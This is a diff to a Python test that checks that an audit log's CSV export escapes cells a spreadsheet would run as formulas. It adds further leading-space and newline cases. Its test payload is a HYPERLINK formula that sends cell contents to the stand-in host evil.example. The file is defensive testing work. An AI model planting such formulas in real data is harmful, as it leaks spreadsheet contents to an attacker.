@@ -405,7 +405,7 @@ def test_the_token_endpoint_is_in_the_openapi_schema():
 def test_audit_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(limits):
     payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     _login(Client(), payload, "guess")  # a failed login lands the username in the trail
-    bad = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+    bad = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", " =1+1", "\n =1+1", "  @SUM(A1)"]
     for value in bad:
         audit.record(value, "load", model_name=value, target=value, detail=value)
     audit.record("alice", "load", model_name="m1", target="t", detail="fine - and = inside")
